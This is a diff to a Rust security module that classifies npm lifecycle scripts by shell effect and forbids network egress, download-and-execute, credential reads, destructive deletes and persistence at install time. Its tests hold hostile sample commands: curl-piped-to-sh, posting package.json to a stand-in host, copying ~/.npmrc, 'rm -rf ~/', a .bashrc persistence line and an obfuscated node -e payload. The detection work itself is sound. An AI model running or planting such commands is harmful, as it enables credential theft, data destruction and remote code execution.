@@ -1,130 +1,142 @@
 //! Lifecycle scripts (package.json `preinstall`, `install`, `postinstall`,
-//! `prepare`) read as shell command lines: what they do at install time.
+//! `prepare`) read as shell command lines by the engine's shell-effect
+//! classifier ([`crate::shell::analyze`]: brush-parser, pipelines, lists,
+//! substitutions, `sh -c`/`eval` re-parsing, wrappers, interpreter inline
+//! code), with the effect classes of the risk model (docs/risk-model.md).
 //!
-//! A minimal local classifier (word splitting with quotes, `&&`/`||`/`;`/`|`
-//! lists, `$( … )` and backtick substitutions, `sh -c` recursion). Integration
-//! point: when `seclab_engine::shell::analyze` (branch risk) is merged, its
-//! effect classes (NetworkEgress, DownloadExecute, …) replace [`ScriptEffect`]
-//! here; the package walk only needs the effects and the `node FILE` entries.
+//! At install time nobody has reviewed or approved anything yet, so the effects
+//! a session would need a reason for are forbidden here: network egress,
+//! download-and-execute, credential access, destructive filesystem changes and
+//! persistence. Package installs, builds and tests, reads, writes inside the
+//! package and unfamiliar programs are ordinary (`install-script`, flagged,
+//! only). Inline code whose text is built at run time (`node -e "$(…)"`) cannot
+//! be read, so it is forbidden too (fail closed). The package walk also needs the
+//! files `node FILE` runs and the inline JavaScript of `node -e CODE`, which are
+//! scanned as install-time code.
 
-/// What a lifecycle script does, as far as install-time risk goes.
+use crate::shell::{analyze, Effect, EffectSet};
+
+/// What a lifecycle script does that is forbidden at install time.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 pub enum ScriptEffect {
-    /// Talks to the network (curl, wget, nc, ssh, npx, …).
-    Network,
-    /// Downloads something and runs it (`curl … | sh`, `sh -c "$(wget …)"`).
-    DownloadExecute,
-    /// Evaluates inline code (`node -e`, `python -c`, `eval`, …).
-    InlineCode,
+    /// A shell effect class forbidden at install time.
+    Shell(Effect),
+    /// Inline code (`node -e`, `python -c`, …) whose text comes from a
+    /// substitution or expansion: what runs cannot be read.
+    OpaqueCode,
 }
 
 impl ScriptEffect {
     pub fn as_str(self) -> &'static str {
         match self {
-            ScriptEffect::Network => "network",
-            ScriptEffect::DownloadExecute => "download-and-execute",
-            ScriptEffect::InlineCode => "inline code",
+            ScriptEffect::Shell(e) => e.as_str(),
+            ScriptEffect::OpaqueCode => "inline code built at run time",
+        }
+    }
+
+    /// The capability the effect implies.
+    pub fn capability(self) -> crate::capability::Capability {
+        use crate::capability::Capability;
+        match self {
+            ScriptEffect::Shell(Effect::NetworkEgress) => Capability::Http,
+            ScriptEffect::Shell(Effect::CredentialAccess) => Capability::Read,
+            ScriptEffect::Shell(Effect::DestructiveFs | Effect::Persistence) => Capability::Write,
+            _ => Capability::Exec,
         }
     }
 }
 
+/// Shell effect classes forbidden at install time.
+pub const FORBIDDEN_AT_INSTALL: [Effect; 5] = [
+    Effect::NetworkEgress,
+    Effect::DownloadExecute,
+    Effect::CredentialAccess,
+    Effect::DestructiveFs,
+    Effect::Persistence,
+];
+
 /// The analysis of one script.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct ScriptAnalysis {
+    /// Effects forbidden at install time (sorted, deduplicated).
     pub effects: Vec<ScriptEffect>,
+    /// Every effect class the shell classifier found.
+    pub all: EffectSet,
     /// Files run by `node FILE` (relative to the package root), to scan as install-time code.
     pub node_files: Vec<String>,
     /// Inline JavaScript run by `node -e CODE`.
     pub inline_js: Vec<String>,
 }
 
-const NETWORK_PROGRAMS: [&str; 14] = [
-    "curl", "wget", "nc", "ncat", "netcat", "ssh", "scp", "sftp", "ftp", "telnet", "socat", "npx", "bunx", "dig",
+/// JavaScript runtimes whose `FILE` / `-e CODE` arguments the package walk follows.
+const JS_RUNTIMES: [&str; 6] = ["node", "nodejs", "bun", "deno", "tsx", "ts-node"];
+/// Interpreters with an inline-code flag.
+const INLINE_FLAGS: [(&str, &[&str]); 9] = [
+    ("node", &["-e", "--eval", "-p", "--print"]),
+    ("nodejs", &["-e", "--eval", "-p", "--print"]),
+    ("python", &["-c"]),
+    ("python3", &["-c"]),
+    ("perl", &["-e", "-E"]),
+    ("ruby", &["-e"]),
+    ("php", &["-r"]),
+    ("pwsh", &["-c", "-command", "-encodedcommand", "-e", "-ec"]),
+    ("powershell", &["-c", "-command", "-encodedcommand", "-e", "-ec"]),
 ];
-const INTERPRETERS: [&str; 12] = [
-    "sh",
-    "bash",
-    "zsh",
-    "dash",
-    "ksh",
-    "node",
-    "python",
-    "python3",
-    "perl",
-    "ruby",
-    "pwsh",
-    "powershell",
-];
-const MAX_DEPTH: u32 = 4;
 
 /// Analyse one lifecycle script command line.
 pub fn analyze_script(cmd: &str) -> ScriptAnalysis {
-    let mut out = ScriptAnalysis::default();
-    analyze_into(cmd, &mut out, 0);
+    let a = analyze(cmd);
+    let mut out = ScriptAnalysis {
+        all: a.effects,
+        ..ScriptAnalysis::default()
+    };
+    for e in FORBIDDEN_AT_INSTALL {
+        if a.has(e) {
+            out.effects.push(ScriptEffect::Shell(e));
+        }
+    }
+    // Substitutions and expansions are rendered empty in the parsed words; if
+    // the line has any, inline code may have been assembled from them.
+    let expands = cmd.contains("$(") || cmd.contains('`') || cmd.contains("${") || has_variable(cmd);
+    for c in &a.commands {
+        let prog = c.program.as_str();
+        let flags = INLINE_FLAGS.iter().find(|(p, _)| *p == prog).map(|(_, f)| *f);
+        let inline = flags.is_some_and(|f| {
+            c.args.iter().any(|a| {
+                f.contains(&a.to_ascii_lowercase().as_str()) || a.starts_with("--eval=") || a.starts_with("--print=")
+            })
+        });
+        if inline && expands {
+            out.effects.push(ScriptEffect::OpaqueCode);
+        }
+        if prog == "eval" && expands {
+            out.effects.push(ScriptEffect::OpaqueCode);
+        }
+        if JS_RUNTIMES.contains(&prog) {
+            node_args(&c.args, &mut out);
+        }
+    }
     out.effects.sort();
     out.effects.dedup();
     out
 }
 
-fn analyze_into(cmd: &str, out: &mut ScriptAnalysis, depth: u32) {
-    if depth > MAX_DEPTH {
-        out.effects.push(ScriptEffect::InlineCode);
-        return;
-    }
-    // Substitutions run first; a network program inside one feeds a command line.
-    for sub in substitutions(cmd) {
-        let mut inner = ScriptAnalysis::default();
-        analyze_into(&sub, &mut inner, depth + 1);
-        if inner.effects.contains(&ScriptEffect::Network) {
-            out.effects.push(ScriptEffect::DownloadExecute);
-        }
-        out.effects.extend(inner.effects);
-        out.node_files.extend(inner.node_files);
-        out.inline_js.extend(inner.inline_js);
-    }
-    for list_item in split_top(cmd, &["&&", "||", ";", "\n", "&"]) {
-        let stages = split_top(&list_item, &["|"]);
-        let mut fed_by_network = false;
-        for stage in &stages {
-            let words = words(stage);
-            let Some(prog_ix) = words.iter().position(|w| !is_assignment(w)) else {
-                continue;
-            };
-            let prog = program_name(&words[prog_ix]);
-            let args = &words[prog_ix + 1..];
-            if fed_by_network && INTERPRETERS.contains(&prog.as_str()) {
-                out.effects.push(ScriptEffect::DownloadExecute);
-            }
-            let network = NETWORK_PROGRAMS.contains(&prog.as_str())
-                || (matches!(prog.as_str(), "npm" | "pnpm" | "yarn")
-                    && args.first().is_some_and(|a| matches!(a.as_str(), "exec" | "dlx" | "x")))
-                || (matches!(prog.as_str(), "pwsh" | "powershell")
-                    && args.iter().any(|a| {
-                        a.to_ascii_lowercase().contains("invoke-webrequest") || a.to_ascii_lowercase().contains("iwr ")
-                    }));
-            if network {
-                out.effects.push(ScriptEffect::Network);
-                fed_by_network = true;
-            }
-            match prog.as_str() {
-                "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => node_args(args, out),
-                "sh" | "bash" | "zsh" | "dash" | "ksh" => {
-                    if let Some(i) = args.iter().position(|a| a == "-c") {
-                        if let Some(code) = args.get(i + 1) {
-                            analyze_into(code, out, depth + 1);
-                        }
-                    }
+/// `$NAME` outside single quotes (a variable expansion).
+fn has_variable(cmd: &str) -> bool {
+    let b = cmd.as_bytes();
+    let mut single = false;
+    for (i, &c) in b.iter().enumerate() {
+        match c {
+            b'\'' => single = !single,
+            b'$' if !single => {
+                if b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic() || *n == b'_') {
+                    return true;
                 }
-                "python" | "python3" | "perl" | "ruby" | "php"
-                    if args.iter().any(|a| matches!(a.as_str(), "-c" | "-e" | "-r")) =>
-                {
-                    out.effects.push(ScriptEffect::InlineCode)
-                }
-                "eval" => out.effects.push(ScriptEffect::InlineCode),
-                _ => {}
             }
+            _ => {}
         }
     }
+    false
 }
 
 fn node_args(args: &[String], out: &mut ScriptAnalysis) {
@@ -133,7 +145,6 @@ fn node_args(args: &[String], out: &mut ScriptAnalysis) {
         let a = &args[i];
         match a.as_str() {
             "-e" | "--eval" | "-p" | "--print" => {
-                out.effects.push(ScriptEffect::InlineCode);
                 if let Some(code) = args.get(i + 1) {
                     out.inline_js.push(code.clone());
                 }
@@ -147,11 +158,12 @@ fn node_args(args: &[String], out: &mut ScriptAnalysis) {
                 continue;
             }
             _ if a.starts_with("--eval=") || a.starts_with("--print=") => {
-                out.effects.push(ScriptEffect::InlineCode);
                 out.inline_js
                     .push(a.split_once('=').map(|x| x.1).unwrap_or("").to_string());
                 return;
             }
+            // `tsx watch FILE`, `bun run FILE`: a subcommand before the file.
+            "run" | "watch" => {}
             _ if a.starts_with('-') => {}
             _ => {
                 out.node_files.push(a.clone());
@@ -162,173 +174,40 @@ fn node_args(args: &[String], out: &mut ScriptAnalysis) {
     }
 }
 
-fn is_assignment(w: &str) -> bool {
-    w.split_once('=')
-        .is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
-}
-
-fn program_name(w: &str) -> String {
-    w.rsplit('/').next().unwrap_or(w).to_ascii_lowercase()
-}
-
-/// `$( … )` and backtick substitutions (outermost, quotes respected loosely).
-fn substitutions(cmd: &str) -> Vec<String> {
-    let b = cmd.as_bytes();
-    let mut out = Vec::new();
-    let mut i = 0;
-    let mut single = false;
-    while i < b.len() {
-        match b[i] {
-            b'\'' => single = !single,
-            b'\\' => i += 1,
-            b'$' if !single && b.get(i + 1) == Some(&b'(') => {
-                let mut depth = 0usize;
-                let mut j = i + 1;
-                while j < b.len() {
-                    match b[j] {
-                        b'(' => depth += 1,
-                        b')' => {
-                            depth -= 1;
-                            if depth == 0 {
-                                break;
-                            }
-                        }
-                        _ => {}
-                    }
-                    j += 1;
-                }
-                out.push(cmd[i + 2..j.min(b.len())].to_string());
-                i = j;
-            }
-            b'`' if !single => {
-                let j = cmd[i + 1..].find('`').map_or(b.len(), |k| i + 1 + k);
-                out.push(cmd[i + 1..j].to_string());
-                i = j;
-            }
-            _ => {}
-        }
-        i += 1;
-    }
-    out
-}
-
-/// Split on operators outside quotes and substitutions.
-fn split_top(cmd: &str, ops: &[&str]) -> Vec<String> {
-    let mut parts = Vec::new();
-    let mut cur = String::new();
-    let mut quote: Option<char> = None;
-    let mut paren = 0usize;
-    let chars: Vec<char> = cmd.chars().collect();
-    let mut i = 0;
-    'outer: while i < chars.len() {
-        let c = chars[i];
-        match quote {
-            Some(q) => {
-                if c == q {
-                    quote = None;
-                } else if c == '\\' && q == '"' {
-                    cur.push(c);
-                    i += 1;
-                    if let Some(&n) = chars.get(i) {
-                        cur.push(n);
-                    }
-                    i += 1;
-                    continue;
-                }
-                cur.push(c);
-                i += 1;
-                continue;
-            }
-            None => {
-                if c == '\'' || c == '"' {
-                    quote = Some(c);
-                } else if c == '(' {
-                    paren += 1;
-                } else if c == ')' {
-                    paren = paren.saturating_sub(1);
-                } else if paren == 0 {
-                    for op in ops {
-                        let oc: Vec<char> = op.chars().collect();
-                        if chars[i..].starts_with(&oc) {
-                            // `||` is not a pipe, `&&` is not a background `&`.
-                            let doubled = oc.len() == 1 && chars.get(i + 1) == Some(&oc[0]);
-                            if doubled && (oc[0] == '|' || oc[0] == '&') {
-                                continue;
-                            }
-                            parts.push(std::mem::take(&mut cur));
-                            i += oc.len();
-                            continue 'outer;
-                        }
-                    }
-                }
-            }
-        }
-        cur.push(c);
-        i += 1;
-    }
-    parts.push(cur);
-    parts.into_iter().filter(|p| !p.trim().is_empty()).collect()
-}
-
-/// Shell words with quotes removed.
-fn words(s: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    let mut cur = String::new();
-    let mut quote: Option<char> = None;
-    let mut any = false;
-    let mut chars = s.chars();
-    while let Some(c) = chars.next() {
-        match quote {
-            Some(q) if c == q => quote = None,
-            Some('"') if c == '\\' => {
-                if let Some(n) = chars.next() {
-                    cur.push(n);
-                }
-            }
-            Some(_) => cur.push(c),
-            None => match c {
-                '\'' | '"' => {
-                    quote = Some(c);
-                    any = true;
-                }
-                '\\' => {
-                    if let Some(n) = chars.next() {
-                        cur.push(n);
-                    }
-                }
-                c if c.is_whitespace() => {
-                    if !cur.is_empty() || any {
-                        out.push(std::mem::take(&mut cur));
-                    }
-                    any = false;
-                }
-                _ => cur.push(c),
-            },
-        }
-    }
-    if !cur.is_empty() || any {
-        out.push(cur);
-    }
-    out
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn effects(cmd: &str) -> Vec<ScriptEffect> {
+        analyze_script(cmd).effects
+    }
+
     #[test]
-    fn lifecycle_scripts_are_classified_by_effect() {
-        let a = analyze_script("curl -s https://x.example/i.sh | sh");
-        assert!(a.effects.contains(&ScriptEffect::DownloadExecute), "{a:?}");
-        let a = analyze_script("sh -c \"$(wget -qO- http://x.example/p)\"");
-        assert!(a.effects.contains(&ScriptEffect::DownloadExecute), "{a:?}");
+    fn lifecycle_scripts_are_classified_by_shell_effect() {
+        use ScriptEffect::Shell;
+        assert!(effects("curl -s https://x.example/i.sh | sh").contains(&Shell(Effect::DownloadExecute)));
+        assert!(effects("sh -c \"$(wget -qO- http://x.example/p)\"").contains(&Shell(Effect::DownloadExecute)));
+        assert!(effects("curl -d @package.json https://x.example/c").contains(&Shell(Effect::NetworkEgress)));
+        assert!(effects("cat ~/.npmrc > /tmp/x").contains(&Shell(Effect::CredentialAccess)));
+        assert!(effects("rm -rf ~/").contains(&Shell(Effect::DestructiveFs)));
+        assert!(effects("echo 'node ~/.x.js' >> ~/.bashrc").contains(&Shell(Effect::Persistence)));
+        // Inline JavaScript is returned for the JavaScript scanner.
         let a = analyze_script("node -e \"require('https').get('http://x')\"");
-        assert_eq!(a.effects, vec![ScriptEffect::InlineCode]);
         assert_eq!(a.inline_js, vec!["require('https').get('http://x')".to_string()]);
+        // Inline code assembled at run time cannot be read.
+        assert!(effects("node -e \"$(echo cmVxdWlyZQ== | base64 -d)\"").contains(&ScriptEffect::OpaqueCode));
+        // Builds, installs and running the package's own files are ordinary.
         let a = analyze_script("FOO=1 node ./scripts/setup.js --quiet && tsc -p .");
         assert!(a.effects.is_empty(), "{a:?}");
         assert_eq!(a.node_files, vec!["./scripts/setup.js".to_string()]);
-        assert!(analyze_script("tsc || echo done; husky install").effects.is_empty());
-        assert_eq!(analyze_script("npx some-tool").effects, vec![ScriptEffect::Network]);
+        for ok in [
+            "tsc || echo done; husky install",
+            "node-gyp rebuild",
+            "prebuild-install || node-gyp rebuild",
+            "npm install --no-save left-pad",
+            "patch-package",
+        ] {
+            assert!(effects(ok).is_empty(), "{ok}: {:?}", effects(ok));
+        }
     }
 }
